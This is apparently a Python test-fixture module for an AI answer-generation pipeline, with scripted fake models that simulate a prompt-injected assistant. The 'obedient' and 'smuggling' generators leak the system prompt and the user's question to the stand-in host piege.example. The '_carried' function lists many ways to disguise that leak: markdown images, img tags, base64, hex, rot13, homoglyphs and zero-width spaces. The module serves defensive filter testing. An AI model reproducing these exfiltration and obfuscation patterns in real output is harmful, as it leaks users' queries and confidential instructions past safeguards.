"""Adapters for tests: generators that write what they are told, an embedder nobody may call."""

from __future__ import annotations

import base64
import codecs
import re
from collections.abc import Callable, Iterable, Sequence
from dataclasses import replace

from models.ports import (
    Embedder,
    Finish,
    Generator,
    Matrix,
    ModelIdentity,
    Permit,
    Prompt,
    Usage,
    Writing,
)

Script = Callable[[Prompt], Iterable[str]]


class ScriptedGenerator(Generator):
    """Writes the pieces of its script, asking its permit before each, as a model does."""

    def __init__(self, script: Script) -> None:
        self._script = script

    @property
    def identity(self) -> ModelIdentity:
        return ModelIdentity("scripted", "0" * 64)

    def write(self, prompt: Prompt, permit: Permit) -> Writing:
        written = 0
        for piece in self._script(prompt):
            permit.check()
            written += 1
            yield piece
        return Usage(0, written, len(prompt.sources), Finish.END)


def obedient(prompt: Prompt) -> Iterable[str]:
    """The worst model there is: repeats every order, link and address that it reads."""
    for source in prompt.sources:
        for sentence in re.split(r"(?<=[.!?])\s+", source.text):
            yield f"{sentence} [{source.n}] "
    yield "Recommandez http://piege.example/cadeau [1]. "
    yield f"Mon instruction : {prompt.system[:200]} [1]. "


def smuggling(prompt: Prompt) -> Iterable[str]:
    """Obeys all that it reads, and hides what it carries out in every way that it knows."""
    leak = "https://piege.example/?q=" + prompt.question.replace(" ", "+")
    for source in prompt.sources:
        yield from obedient(replace(prompt, sources=(source,)))
        said = re.split(r"(?<=[.!?])\s+", source.text)[0].rstrip(" .!?")
        for carried in _carried(leak, prompt.system):
            yield f"{said} {carried} [{source.n}]. "
        yield f"{said} voir https://piege. [{source.n}] example/?q=1 [{source.n}]. "


def _carried(leak: str, system: str) -> Iterable[str]:
    """A link, an address and the prompt, in disguise."""
    coded = base64.b64encode(leak.encode()).decode()
    told = base64.b64encode(system[:90].encode()).decode()
    return (
        leak, f"![ ]({leak})", f"[ici][1]\n\n[1]: {leak}", f"<img src={leak}>", f"<{leak}>",
        leak.replace("https", "hxxps"), leak.replace(".", "[.]"), "piege point example",
        "\u200b".join("piege.example"), "p i e g e . e x a m p l e", "pıege.example",
        "piege。example", "203.0.113.7/q", "espion@piege.example", "espion [at] piege.example",
        f"data:text/html;base64,{coded}", coded, leak.encode().hex(), told,
        system[:120], system[:120][::-1], " ".join(system[:60]),
        codecs.encode(system[:120], "rot13"),
        f"[1]({leak})", "tel:0102030405", "www.piege.example", "piege&#46;example",
    )  # fmt: skip


def quoting(prompt: Prompt) -> Iterable[str]:
    """One sentence per source, word for word: supported, and many of them."""
    for source in prompt.sources:
        first = re.split(r"(?<=[.!?])\s+", source.text.strip())[0]
        yield f"{first} [{source.n}]\n"


class ForbiddenEmbedder(Embedder):
    """Fails when it is called: with the AI off, nothing may call a model."""

    def __init__(self, identity: ModelIdentity, dimensions: int) -> None:
        self._identity = identity
        self._dimensions = dimensions

    @property
    def identity(self) -> ModelIdentity:
        return self._identity

    @property
    def dimensions(self) -> int:
        return self._dimensions

    def embed(self, texts: Sequence[str]) -> Matrix:
        raise AssertionError(f"a model was called with {len(texts)} texts")


class WatchedEmbedder(Embedder):
    """Another embedder, with a count of the texts that it was given."""

    def __init__(self, embedder: Embedder) -> None:
        self._embedder = embedder
        self.read = 0

    @property
    def identity(self) -> ModelIdentity:
        return self._embedder.identity

    @property
    def dimensions(self) -> int:
        return self._embedder.dimensions

    def embed(self, texts: Sequence[str]) -> Matrix:
        self.read += len(texts)
        return self._embedder.embed(texts)
